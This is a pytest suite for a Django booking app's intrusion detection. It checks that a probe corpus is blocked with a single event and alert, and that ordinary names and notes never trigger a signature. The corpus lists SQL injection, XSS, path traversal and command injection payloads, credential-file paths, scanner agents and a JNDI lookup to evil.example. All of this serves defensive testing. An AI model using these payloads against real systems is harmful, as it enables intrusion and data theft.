"""Intrusion detection (C32) with both kinds of traffic: a replayed probe corpus (scanner paths,
sqlmap and XSS payloads, traversal, command injection, scanner agents) is detected and blocked,
on every app server (the block lives in the shared cache), with one event and one alert; the
legitimate booking, admin and API journeys, with names like "O'Brien" and notes like "drop by;
select the blue one", are never blocked and hit no signature at all."""

from __future__ import annotations

import json
import logging
from datetime import UTC, datetime, timedelta
from io import StringIO
from urllib.parse import quote, urlencode

import pytest
import time_machine
from django.core import mail
from django.core.management import call_command
from django.test import Client, RequestFactory
from hypothesis import given
from hypothesis import settings as settings_
from hypothesis import strategies as st

from security.ids import inspect
from security.models import SecurityEvent
from tests.booking.conftest import partner, service  # noqa: F401  (fixtures)
from tests.redis_wire import record_redis_commands

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def ids_on(settings):
    settings.IDS_MODE = "block"
    settings.ADMINS = [("Operators", "ops@booking.example")]
    return settings


# --- the probe corpus: what scanners and sqlmap really send ----------------------------------------
# (method, path, query or form data, User-Agent)
SCANNER_PATHS = [
    "/.env",
    "/.git/config",
    "/wp-admin/setup-config.php",
    "/wp-login.php",
    "/xmlrpc.php",
    "/phpmyadmin/index.php",
    "/.aws/credentials",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/luci/;stok=/locale",
    "/server-status",
    "/actuator/env",
    "/backup.sql",
    "/db.zip",
    "/.DS_Store",
    "/static/../../etc/passwd",
    "/boaform/admin/formLogin",
    "/index.jsp",
]
SQL_PAYLOADS = [
    "' OR 1=1--",
    "1' OR '1'='1",
    "admin'--",
    "1 UNION SELECT NULL,NULL,NULL--",
    "-1' UNION ALL SELECT username,password FROM auth_user--",
    "1' AND SLEEP(5)#",
    "1';WAITFOR DELAY '0:0:5'--",
    "1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)",
    "1' ORDER BY 10-- -",
    "1' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT version())))--",
    "1'; DROP TABLE booking_booking;--",
    "1 UNION/**/SELECT/**/password/**/FROM/**/accounts_user",
    "1/*!50000UNION*/ SELECT 1",
    "' AND 1=CONVERT(int,@@version)--",
    "1 AND 1=1 UNION SELECT table_name FROM information_schema.tables",
    '1" or "a"="a',
    "1) OR (1=1",
]
XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    '"><script>alert(document.domain)</script>',
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "javascript:alert(1)",
    "<iframe src=javascript:alert(1)>",
    "'-prompt(1)-'",
    "<details open ontoggle=confirm(1)>",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
]
OTHER_PAYLOADS = [
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "; cat /etc/passwd",
    "| id",
    "$(whoami)",
    "`id`",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "file%00.jpg",
]
SCANNER_AGENTS = ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6)"]


def _corpus() -> list[tuple[str, str, dict[str, str], str]]:
    corpus = [("GET", path, {}, "") for path in SCANNER_PATHS]
    for payload in SQL_PAYLOADS + XSS_PAYLOADS + OTHER_PAYLOADS:
        corpus.append(("GET", "/book/salon-alpha/", {"tz": payload}, ""))
        corpus.append(("POST", "/book/salon-alpha/haircut/book/", {"notes": payload}, ""))
    corpus += [("GET", "/", {}, agent) for agent in SCANNER_AGENTS]
    return corpus


@pytest.mark.parametrize(("method", "path", "data", "agent"), _corpus())
def test_every_probe_of_the_corpus_hits_a_signature(method, path, data, agent) -> None:
    factory = RequestFactory()
    if method == "GET":
        request = factory.get(path, data, HTTP_USER_AGENT=agent)
    else:
        request = factory.post(path, data, HTTP_USER_AGENT=agent)
    assert inspect(request), (method, path, data, agent)


def test_the_api_json_body_is_inspected() -> None:
    request = RequestFactory().post(
        "/api/v1/partners/x/bookings",
        json.dumps(
            {"customer_name": "x", "notes": "1' UNION SELECT password FROM accounts_user--"}
        ),
        content_type="application/json",
    )
    assert [r.id for r in inspect(request)] == ["sql-union"]


def test_a_replayed_scan_is_blocked_with_one_event_and_one_alert() -> None:
    scanner = Client(REMOTE_ADDR="203.0.113.66")
    statuses = []
    for method, path, data, agent in _corpus():
        call = scanner.get if method == "GET" else scanner.post
        statuses.append(call(path, data, HTTP_USER_AGENT=agent).status_code)

    assert statuses[:1] == [404] and statuses[1] == 403  # the second probe reaches the threshold
    assert set(statuses[1:]) == {403}
    events = SecurityEvent.objects.filter(event_type="ids_block")
    assert events.count() == 1
    assert events.get().target == "203.0.113.66" and events.get().detail["rules"] == [
        "scan-dotfile"
    ]
    assert [m.subject for m in mail.outbox if "[ids]" in m.subject] == [
        "[Django] [ids] 203.0.113.66 blocked for 60 minutes"
    ]
    # Another client is served.
    assert Client(REMOTE_ADDR="198.51.100.20").get("/healthz").status_code in (200, 503)


def test_a_blocked_client_costs_no_database_query(django_assert_num_queries) -> None:
    scanner = Client(REMOTE_ADDR="203.0.113.66")
    scanner.get("/.env")
    scanner.get("/wp-login.php")
    with django_assert_num_queries(0):
        response = scanner.get("/book/salon-alpha/")
    assert response.status_code == 403
    assert response.content == b"Forbidden\n" and response["Content-Type"].startswith("text/plain")


def test_an_ipv6_64_is_one_client() -> None:
    Client(REMOTE_ADDR="2001:db8:5:6::1").get("/.env")
    Client(REMOTE_ADDR="2001:db8:5:6::2").get("/.git/config")
    assert Client(REMOTE_ADDR="2001:db8:5:6:aaaa::9").get("/healthz").status_code == 403
    assert Client(REMOTE_ADDR="2001:db8:5:7::1").get("/healthz").status_code != 403


def test_a_burst_of_denied_answers_blocks(settings) -> None:
    settings.IDS_DENIED_BURST = 10
    prober = Client(REMOTE_ADDR="203.0.113.70")
    statuses = [prober.get(f"/book/no-such-partner-{n}/").status_code for n in range(11)]
    assert statuses == [404] * 10 + [403]
    assert SecurityEvent.objects.get(event_type="ids_block").detail["rules"] == ["denied-burst"]


def test_the_block_ends_after_its_time(settings) -> None:
    scanner = Client(REMOTE_ADDR="203.0.113.66")
    with time_machine.travel(datetime(2026, 3, 1, 10, tzinfo=UTC), tick=False) as traveller:
        scanner.get("/.env")
        scanner.get("/.env.bak")
        assert scanner.get("/healthz").status_code == 403
        traveller.shift(timedelta(minutes=settings.IDS_BLOCK_MINUTES + 1))
        assert scanner.get("/healthz").status_code != 403


def test_the_alert_goes_out_at_most_once_an_hour_per_client(settings) -> None:
    settings.IDS_BLOCK_MINUTES = 5
    scanner = Client(REMOTE_ADDR="203.0.113.66")
    with time_machine.travel(datetime(2026, 3, 1, 10, tzinfo=UTC), tick=False) as traveller:
        for _ in range(3):
            scanner.get("/.env")
            scanner.get("/.git/config")
            traveller.shift(timedelta(minutes=6))
    assert SecurityEvent.objects.filter(event_type="ids_block").count() == 3
    assert len([m for m in mail.outbox if "[ids]" in m.subject]) == 1


def test_allow_listed_monitors_are_never_blocked(settings) -> None:
    settings.IDS_ALLOW_LIST = ["192.0.2.0/28"]
    monitor = Client(REMOTE_ADDR="192.0.2.5")
    assert [monitor.get(p).status_code for p in ("/.env", "/.git/config", "/healthz")] != [403] * 3
    assert monitor.get("/healthz").status_code != 403
    assert not SecurityEvent.objects.filter(event_type__startswith="ids_").exists()


def test_detect_mode_only_logs(settings, caplog) -> None:
    settings.IDS_MODE = "detect"
    scanner = Client(REMOTE_ADDR="203.0.113.66")
    with caplog.at_level(logging.WARNING, logger="security.ids"):
        statuses = [scanner.get(p).status_code for p in ("/.env", "/.git/config", "/wp-login.php")]
    assert 403 not in statuses
    assert SecurityEvent.objects.get(event_type="ids_detect").target == "203.0.113.66"
    assert not SecurityEvent.objects.filter(event_type="ids_block").exists()
    assert [m for m in mail.outbox if "[ids]" in m.subject] == []
    assert sum(r.getMessage() == "intrusion signature" for r in caplog.records) == 3


def test_ids_unblock_lifts_the_block_and_is_logged() -> None:
    scanner = Client(REMOTE_ADDR="2001:db8:5:6::1")
    scanner.get("/.env")
    scanner.get("/.git/config")
    out = StringIO()

    call_command("ids_unblock", "2001:db8:5:6::99", stdout=out)

    assert out.getvalue() == "2001:db8:5:6::99: unblocked (client 2001:db8:5:6::/64).\n"
    assert scanner.get("/healthz").status_code != 403
    event = SecurityEvent.objects.get(event_type="ids_unblock")
    assert event.target == "2001:db8:5:6::/64" and event.detail["was_blocked"] is True


def test_ids_unblock_refuses_garbage() -> None:
    from django.core.management.base import CommandError

    with pytest.raises(CommandError):
        call_command("ids_unblock", "not-an-address")


# --- zero false positives --------------------------------------------------------------------------
LEGITIMATE_TEXTS = [
    "O'Brien",
    "Siobhán O'Connor-D'Arcy",
    "drop by; select the blue one",
    "Running late; update: arriving 10 min after",
    "Can't come on Tuesday; please move me to Friday",
    "Rock 'n' roll -- see you then!",
    "Smith & Sons | Hair & Beauty",
    "Wash & cut / blow-dry (no colour), 50% off? <3",
    "I'm allergic to: nuts, latex & 'strong' dyes",
    "select from: cut, colour or both",
    "Order by phone if the website is down",
    "Sleep well! See you at 9 (room #3, 2nd floor)",
    "Müller-Lüdenscheidt, Zürich",
    "L'Oréal colour; my usual is 6.0 = dark blonde",
    "ada+booking@example.com",
    "+41 79 000 00 00",
    "Please confirm by email. Thanks :-)",
    "My son (he's 7) comes too; is that ok?",
    "Where's the entrance -- front or back?",
    "C:\\Users\\ada said 'hello'",
    "Notes: 1) wash 2) cut 3) dry",
    "Ich komme 5 Min. später; bitte warten",
    "Je serai là à 9h — merci d'avance",
    "Ci vediamo alle 10; grazie mille",
]


@pytest.mark.parametrize("text", LEGITIMATE_TEXTS)
def test_ordinary_text_hits_no_signature(text) -> None:
    factory = RequestFactory()
    form = factory.post("/book/x/y/book/", {"customer_name": text, "notes": text})
    query = factory.get("/admin/booking/booking/", {"q": text})
    api = factory.post(
        "/api/v1/partners/x/bookings", json.dumps({"notes": text}), content_type="application/json"
    )
    assert (inspect(form), inspect(query), inspect(api)) == ([], [], [])


@pytest.fixture
def signature_log(caplog):
    caplog.set_level(logging.WARNING, logger="security.ids")
    return lambda: [r for r in caplog.records if r.name == "security.ids"]


def test_the_customer_journey_is_never_blocked(signature_log, service) -> None:  # noqa: F811
    customer = Client(REMOTE_ADDR="192.0.2.44", HTTP_USER_AGENT="Mozilla/5.0 (X11; Linux x86_64)")
    with time_machine.travel(datetime(2025, 1, 6, 7, tzinfo=UTC), tick=False):
        pages = [
            customer.get("/book/salon-alpha/"),
            customer.get("/book/salon-alpha/haircut/", {"tz": "America/New_York"}),
            customer.get(
                "/book/salon-alpha/haircut/book/",
                {"start": "2025-01-07T09:00:00Z", "tz": "America/New_York"},
            ),
        ]
        booked = customer.post(
            "/book/salon-alpha/haircut/book/",
            {
                "start": "2025-01-07T09:00:00Z",
                "tz": "America/New_York",
                "customer_name": "Siobhán O'Brien",
                "customer_email": "siobhan.obrien+salon@example.com",
                "customer_phone": "+41 79 000 00 00",
                "notes": "drop by; select the blue one. I'm 5-10 min late -- sorry!",
            },
        )
        assert booked.status_code == 302
        manage = booked["Location"]
        token = manage.split("/")[2]
        pages += [
            customer.get(manage),
            customer.get(f"/manage/{token}/reschedule/", {"tz": "Europe/Zurich"}),
            customer.post(f"/manage/{token}/cancel/", {"tz": "Europe/Zurich"}),
            customer.get("/.well-known/security.txt"),
            customer.get("/security/policy"),
            customer.get("/favicon.ico"),
        ]
    assert [p.status_code for p in pages if p.status_code in (403, 500)] == []
    assert signature_log() == []
    assert not SecurityEvent.objects.filter(event_type__startswith="ids_").exists()


def test_the_widget_api_journey_is_never_blocked(signature_log, service) -> None:  # noqa: F811
    service.partner.widget_origins = "https://www.salon.example"
    service.partner.save()
    widget = Client(REMOTE_ADDR="2001:db8:77::5", HTTP_ORIGIN="https://www.salon.example")
    base = "/api/v1/partners/salon-alpha"
    with time_machine.travel(datetime(2025, 1, 6, 7, tzinfo=UTC), tick=False):
        answers = [
            widget.options(f"{base}/services/", HTTP_ACCESS_CONTROL_REQUEST_METHOD="GET"),
            widget.get(f"{base}/services/"),
            widget.get(
                f"{base}/services/haircut/slots",
                {"start": "2025-01-07", "end": "2025-01-10", "tz": "America/New_York"},
            ),
            widget.post(
                f"{base}/bookings",
                json.dumps(
                    {
                        "service": "haircut",
                        "start": "2025-01-07T09:00:00Z",
                        "customer_name": "Conor O'Brien",
                        "customer_email": "conor@example.com",
                        "notes": "drop by; select the blue one",
                    }
                ),
                content_type="application/json",
            ),
            widget.get("/api/v1/openapi.json"),
        ]
    assert [a.status_code for a in answers] == [200, 200, 200, 201, 200]
    assert signature_log() == []


def test_the_partner_admin_journey_is_never_blocked(signature_log, client) -> None:
    from tests.booking.admin_world import build_world
    from tests.otp_login import login_verified

    world = build_world()
    staff_user = Client(REMOTE_ADDR="198.51.100.33")
    login_verified(staff_user, world.owner)
    booking = f"/admin/booking/booking/{world.a_booking.pk}"
    day = (world.a_booking.start + timedelta(days=2)).astimezone(world.a.zone)
    pages = [
        staff_user.get("/admin/"),
        staff_user.get("/admin/booking/booking/", {"q": "O'Brien"}),
        staff_user.get("/admin/booking/booking/", {"q": "drop by; select the blue one"}),
        staff_user.get(f"{booking}/change/"),
        staff_user.get("/admin/booking/booking/calendar/"),
        staff_user.get("/admin/booking/booking/export/"),
        staff_user.get("/admin/booking/service/"),
        staff_user.post(
            "/admin/booking/booking/add/",
            {
                "service": world.a_service.pk,
                "start": day.strftime("%Y-%m-%dT09:00"),
                "customer_name": "Niamh O'Brien",
                "customer_email": "niamh@example.com",
                "customer_phone": "+353 1 555 0100",
                "notes": "drop by; select the blue one -- she's 'very' picky",
            },
        ),
        staff_user.post(f"{booking}/cancel/", {"reason": "Stylist's ill; we'll call you (sorry!)"}),
        staff_user.get("/admin/password_change/"),
    ]
    assert [p.status_code for p in pages if p.status_code in (403, 500)] == []
    assert signature_log() == []


def test_admin_login_with_wrong_passwords_is_the_lockout_not_an_intrusion(signature_log) -> None:
    from django.contrib.auth import get_user_model

    get_user_model().objects.create_user("ada@example.com", "x" * 20, is_staff=True)
    user = Client(REMOTE_ADDR="198.51.100.34")
    statuses = [
        user.post(
            "/admin/login/", {"username": "ada@example.com", "password": f"O'Brien{n}--"}
        ).status_code
        for n in range(4)
    ]
    assert statuses == [200, 200, 429, 429]  # the lockout answers; no 403
    assert signature_log() == []


def test_query_strings_are_decoded_before_matching() -> None:
    request = RequestFactory().get("/book/x/?" + urlencode({"tz": "%27%20OR%201%3D1--"}))
    assert [r.id for r in inspect(request)] == ["sql-tautology"]


def test_compliance_c32_follows_the_mode(settings, tmp_path) -> None:
    from security.compliance import Status, evaluate
    from security.integrity import integrity_check

    settings.INTEGRITY_PATHS = [str(tmp_path)]
    call_command("integrity_baseline", stdout=StringIO())
    integrity_check()
    assert evaluate(["C32"])[0].status == Status.PASS
    settings.IDS_MODE = "detect"
    assert evaluate(["C32"])[0].status == Status.WARN
    settings.IDS_MODE = "off"
    assert evaluate(["C32"])[0].status == Status.FAIL


# --- what each app process remembers of a block ---------------------------------------------------


def test_a_block_made_by_another_process_is_enforced_here_within_the_recheck_time(
    settings,
) -> None:
    from django.core.cache import cache

    from security.ids import block_key

    settings.IDS_BLOCK_RECHECK_SECONDS = 1
    scanner = Client(REMOTE_ADDR="203.0.113.67")
    start = datetime(2026, 3, 1, 10, tzinfo=UTC)
    with time_machine.travel(start, tick=False) as traveller:
        assert scanner.get("/healthz").status_code != 403
        # Another app server blocks the client (it writes the shared cache).
        cache.set(block_key("203.0.113.67"), start.timestamp() + 3600, timeout=3600)
        traveller.shift(timedelta(seconds=0.5))
        assert scanner.get("/healthz").status_code != 403  # this process read it 0.5 s ago
        traveller.shift(timedelta(seconds=0.5))
        assert scanner.get("/healthz").status_code == 403
        # Lifted elsewhere (the cache entry deleted): served again within the same time.
        cache.delete(block_key("203.0.113.67"))
        traveller.shift(timedelta(seconds=1))
        assert scanner.get("/healthz").status_code != 403


def test_with_recheck_zero_every_request_reads_the_block(settings) -> None:
    from django.core.cache import cache

    from security.ids import block_key

    settings.IDS_BLOCK_RECHECK_SECONDS = 0
    scanner = Client(REMOTE_ADDR="203.0.113.68")
    with time_machine.travel(datetime(2026, 3, 1, 10, tzinfo=UTC), tick=False):
        assert scanner.get("/healthz").status_code != 403
        cache.set(block_key("203.0.113.68"), datetime(2026, 3, 1, 11, tzinfo=UTC).timestamp())
        assert scanner.get("/healthz").status_code == 403


@pytest.mark.redis
def test_on_redis_a_client_read_a_moment_ago_costs_no_round_trip(settings, monkeypatch) -> None:
    visitor = Client(REMOTE_ADDR="198.51.100.21")
    with time_machine.travel(datetime(2026, 3, 1, 10, tzinfo=UTC), tick=False):
        assert visitor.get("/.well-known/security.txt").status_code == 200
        sent = record_redis_commands(monkeypatch)
        assert visitor.get("/.well-known/security.txt").status_code == 200
    assert sent == []


# --- one search per value: the combined screen finds exactly what the rules find -------------------


_PROBE_PIECES = [
    "/.env", "../", "..%2f", "%252e%252e/", "' OR 1=1--", "UNION SELECT", "<script>", "onload=",
    "javascript:", "${jndi:", "; cat /etc/passwd", "$(id)", "sleep(5)", "/wp-login.php", "sqlmap",
    "O'Brien", "drop by; select the blue one", "/book/salon-alpha/", "2026-12-08", "Europe/Zurich",
    "%00", "\x00", "order by 3--", "/*!50000", "`id`", "data:text/html", "Mozilla/5.0",
    "/x.php", "/index.jsp", "/server-status", "/.git/config", "/a/../b", "win.ini", "<iframe",
    "/proc/self/", "1) or (1=1", "'--", "; drop table x", "benchmark(1,", "a/**/b", "having 1=1",
    "alert(1)", "| whoami", "/bin/sh", "{{7*7}}", "nikto", "<a onclick=", "x/wp-admin",
]  # fmt: skip


@settings_(max_examples=300, deadline=None)
@given(
    path=st.lists(st.sampled_from(_PROBE_PIECES) | st.text(max_size=8), max_size=4),
    query=st.lists(st.sampled_from(_PROBE_PIECES) | st.text(max_size=8), max_size=3),
    agent=st.sampled_from(_PROBE_PIECES) | st.text(max_size=12),
)
def test_the_combined_screen_finds_what_the_rules_find(path, query, agent) -> None:
    from security import ids

    request = RequestFactory().get(
        "/p" + quote("".join(path), safe="/%"),
        {f"q{n}": value for n, value in enumerate(query)},
        HTTP_USER_AGENT=agent.replace("\n", " ").replace("\r", " "),
    )
    parts = ids._parts(
        request.path, request.META["QUERY_STRING"], request.headers["User-Agent"], []
    )
    expected = [r.id for r in ids.hits_of(parts)]
    assert [r.id for r in inspect(request)] == expected
    assert [r.id for r in inspect(request)] == expected  # the second time from the line memo
